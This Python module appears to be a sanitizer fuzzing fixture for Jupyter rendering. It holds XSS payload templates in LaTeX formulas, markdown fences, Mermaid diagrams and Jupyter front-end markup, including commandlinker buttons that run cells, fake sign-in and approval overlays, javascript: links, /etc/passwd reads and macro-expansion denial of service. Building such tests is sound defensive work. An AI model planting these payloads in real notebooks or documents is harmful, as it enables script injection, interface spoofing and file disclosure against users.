"""Texts for what reads more than markup: formulas, diagrams, fences, and Jupyter's own front ends."""

from __future__ import annotations

from collections.abc import Iterator

FORMULAS = [
    "\\href{javascript:@JS@}{x}",
    "\\href{ java\\script:@JS@}{x}",
    "\\href{data:text/html,<script>@JS@</script>}{x}",
    "\\href{vbscript:@JS@}{x}",
    "\\href{@URL@}{x}",
    "\\url{javascript:@JS@}",
    "\\require{href}\\href{javascript:@JS@}{x}",
    "\\require{html}\\class{jp-Button}{\\cssId{jupyter-config-data}{x}}",
    "\\style{position:fixed;inset:0;background:url(@URL@)}{x}",
    "\\htmlClass{jp-mod-x}{x}\\htmlId{main}{x}\\htmlStyle{position:fixed}{x}\\htmlData{a=1}{x}",
    "\\data{commandlinker-command=x}{x}",
    "\\includegraphics{@URL@a.png}",
    "\\includegraphics[width=9px]{@URL@b.png}",
    "\\unicode[url(@URL@)]{x41}",
    "\\unicode{<img src=x onerror=@JS@>}",
    "\\text{<img src=x onerror=@JS@>}",
    "\\text{</script><script>@JS@</script>}",
    "\\mbox{&lt;img src=x onerror=@JS@&gt;}",
    "\\bbox[url(@URL@),border:9px solid red;position:fixed]{x}",
    "\\color{red;background:url(@URL@)}{x}",
    "\\colorbox{url(@URL@)}{x}",
    "\\mmlToken{mi}[href='javascript:@JS@']{x}",
    "\\mmlToken{mi}[onclick='@JS@' style='background:url(@URL@)']{x}",
    "\\toggle{x}{y}\\endtoggle\\texttip{x}{<img src=x onerror=@JS@>}",
    "\\def\\a{\\a\\a}\\a",
    "\\def\\a#1{#1#1#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}",
    "\\let\\frac\\href\\frac{javascript:@JS@}{x}",
    "\\newcommand{\\href}[2]{#2}\\renewcommand{\\text}[1]{\\href{javascript:@JS@}{#1}}\\text{x}",
    "\\input{/etc/passwd}\\write18{id}\\catcode`\\^=13",
    "\\begin{array}{c}\\href{javascript:@JS@}{x}\\end{array}",
    "\\rule{99999em}{99999em}",
    "\\kern{-9999em}\\smash{\\raise{9999em}{x}}",
    "x" + "^{x" * 60 + "}" * 60,
]
DELIMITERS = ["$%s$", "$$%s$$", "\\\\(%s\\\\)", "\\\\[%s\\\\]"]

FENCES = [
    "```\n</code></pre><img src=x onerror=@JS@>\n```",
    '```html" onload="@JS@\nx\n```',
    "```x><img src=x onerror=@JS@>\nx\n```",
    "```python {onclick=@JS@}\nx\n```",
    "```\n```\n<img src=x onerror=@JS@>\n```\n",
    "  ```\nx\n```\n<img src=x onerror=@JS@>\n```",
    "- ```\n```\n<img src=x onerror=@JS@>\n```",
    "> ```\n<img src=x onerror=@JS@>\n> ```",
    "~~~\n```\n~~~\n<img src=x onerror=@JS@>",
    "```` \n```\n<img src=x onerror=@JS@>\n",
    "````\n```\n````\n![a](@URL@a.png)",
    "\t```\n\t<img src=x onerror=@JS@>\n![a](@URL@b.png)",
    "```js\n`${@JS@}` `</script><script>@JS@</script>`\n```",
    "${@JS@} {{@JS@}} {{constructor.constructor('@JS@')()}} <%= @JS@ %> #{@JS@}",
    "`<img src=x onerror=@JS@>` ``</code><img src=x onerror=@JS@>``",
    "`` ` ``<img src=x onerror=@JS@>`",
    "| <img src=x onerror=@JS@> | `|` |\n|:-:|--|\n| <svg onload=@JS@> | b |",
    "1. <details open ontoggle=@JS@>\n   - <img src=x onerror=@JS@>",
    "<div>\n\n```\n</div><img src=x onerror=@JS@>\n```\n\n</div>",
    "<details><summary>x</summary>\n\n![a](@URL@c.png)\n\n</details>",
    "[x]: <img src=x onerror=@JS@>\n[x]",
    "# x {#id onclick=@JS@}\n::: {.x onclick=@JS@}\nx\n:::",
    "---\ntitle: <img src=x onerror=@JS@>\n---\n",
    "\\<img src=x onerror=@JS@> \\\\<img src=x onerror=@JS@>",
    "*<img src=x*onerror=@JS@> _<svg _onload=@JS@>",
]
DIAGRAMS = [
    'graph TD\nA["<img src=x onerror=@JS@>"]-->B',
    'graph TD\nA-->B\nclick A href "javascript:@JS@"',
    "graph TD\nA-->B\nclick A call alert(@N@)",
    '%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\ngraph TD\nA["<img src=x onerror=@JS@>"]',
    '%%{init: {"themeCSS": "*{background:url(@URL@)}"}}%%\ngraph TD\nA-->B',
    '%%{init: {"fontFamily": "x;}*{background:url(@URL@)}"}}%%\ngraph TD\nA-->B',
    'graph TD\nA@{ img: "@URL@a.png", label: "x" }',
    "graph TD\nA-->B\nstyle A fill:url(@URL@)",
    "graph TD\nclassDef x background-image:url(@URL@)\nA:::x",
    "sequenceDiagram\nA->>B: <script>@JS@</script>\nlink A: x @ javascript:@JS@",
    'classDiagram\nclass A\nlink A "javascript:@JS@"',
    'gantt\nsection x\nx :a1, 2024-01-01, 1d\nclick a1 href "javascript:@JS@"',
]

# What the front ends themselves look for in a document.
JUPYTER = [
    "<button data-commandlinker-command=notebook:run-all-cells>Continue</button>",
    "<a data-commandlinker-command=kernelmenu:restart data-commandlinker-args='{}'>Continue</a>",
    '<b data-commandlinker-command="filebrowser:open-url" data-commandlinker-args=\'{"url":"@URL@"}\'>x</b>',
    "<div class=jp-RenderedJavaScript data-mime-type=application/javascript>@JS@</div>",
    "<div class='jp-RenderedHTMLCommon jp-RenderedHTML' data-mime-type=text/html><script>@JS@</script></div>",
    "<div class=jp-OutputArea-output data-mime-type=application/vnd.jupyter.widget-view+json>x</div>",
    '<script type="application/vnd.jupyter.widget-view+json">{"model_id":"x"}</script>',
    '<script type="application/vnd.jupyter.widget-state+json">{"state":{}}</script>',
    '<script id=jupyter-config-data type=application/json>{"baseUrl":"@URL@"}</script>',
    "<div id=jupyter-config-data>{&quot;baseUrl&quot;:&quot;@URL@&quot;}</div>",
    "<div id=main class='jp-LabShell lm-Widget' style='position:fixed;inset:0;z-index:99999'>Sign in again</div>",
    "<dialog open class=jp-Dialog><button class='jp-Dialog-button jp-mod-accept'>Restart</button></dialog>",
    "<div class='jp-pi-Approval' role=group><button class='jp-pi-Button'>Allow once</button></div>",
    "<a href='/lab/api/workspaces' data-jupyter-action=x>x</a><a href='../../etc/passwd'>x</a>",
    "[run](commandlinker:notebook:run-all-cells) [x](command:application:close)",
    "[x](attachment:a.png) [x](notebook.ipynb#<img src=x onerror=@JS@>)",
    '[x](#"onmouseover=@JS@) [x](x.ipynb?"><script>@JS@</script>)',
    "<jupyter-widget-mount-point data-x=@JS@></jupyter-widget-mount-point>",
    "<iframe src='/lab?reset&token='></iframe><iframe src='/files/x.html'></iframe>",
    "<div data-lm-x onclick=@JS@ class=lm-mod-active tabindex=0>x</div>",
]


def templates() -> Iterator[tuple[str, str]]:
    for place, formula in enumerate(FORMULAS):
        yield "formula", DELIMITERS[place % len(DELIMITERS)].replace("%s", formula)
        if "@JS@" in formula or "@URL@" in formula:
            yield "formula", DELIMITERS[(place + 1) % 2].replace("%s", formula)
    yield from (("fence", one) for one in FENCES)
    yield from (("diagram", f"```mermaid\n{one}\n```") for one in DIAGRAMS)
    yield from (("jupyter", one) for one in JUPYTER)
